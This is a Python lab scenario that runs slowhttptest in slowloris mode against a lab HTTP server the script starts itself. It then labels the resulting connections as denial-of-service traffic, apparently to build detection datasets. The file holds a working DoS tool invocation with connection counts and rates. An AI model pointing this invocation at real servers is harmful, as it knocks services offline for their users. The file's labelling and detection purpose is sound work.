"""Slow HTTP (slowloris): slowhttptest holds connections to the lab HTTP
server open with a request whose headers never end, one more header line
now and then. slowhttptest cannot bind an address, so it gets the
attacker's by a route (see routed_source); the client ports come from the
server's accept log."""

from __future__ import annotations

from netgptd.lab.scenario import LabContext, scenario
from netgptd.lab.scenarios._attack_targets import (ATTACKER, VICTIM, label_peers,
                                                   run_timed_tool, serve_logged_http, stop_servers)
from netgptd.lab.scenarios._servers import routed_source, well_known_port
from netgptd.lab.scenarios.http1 import _Pages

CONNECTIONS = 50  # slowhttptest -c
CONNECT_RATE = 25  # slowhttptest -r: new connections per second
FOLLOW_UP_S = 5  # slowhttptest -i: seconds between a connection's header lines
PROBE_TIMEOUT_S = 2  # slowhttptest -p: how long its availability probe waits


@scenario("slow-http", "attack", "Slowloris slow-header attack (slowhttptest -H) against the lab HTTP server",
          requires=("slowhttptest", "ip"))  # fmt: skip
def slow_http(ctx: LabContext) -> None:
    victim_ip, attacker_ip = ctx.host(VICTIM), ctx.host(ATTACKER)
    port = well_known_port(ctx, victim_ip, 80)
    server = serve_logged_http(victim_ip, port, _Pages)
    try:
        ctx.wait_listening(victim_ip, port)
        with routed_source(ctx, victim_ip, attacker_ip):
            while ctx.remaining >= 1:  # slowhttptest's test length is whole seconds
                seconds = int(ctx.remaining)
                argv = ["slowhttptest", "-H", "-c", str(CONNECTIONS), "-r", str(CONNECT_RATE),
                        "-i", str(min(FOLLOW_UP_S, seconds)), "-l", str(seconds), "-p", str(PROBE_TIMEOUT_S),
                        "-u", f"http://{victim_ip}:{port}/"]  # fmt: skip
                run_timed_tool(ctx, argv, timeout=ctx.remaining + 2)
    finally:
        stop_servers([server])
    label_peers(ctx, server.peers, attacker_ip, (victim_ip, port), "HTTP", "dos")
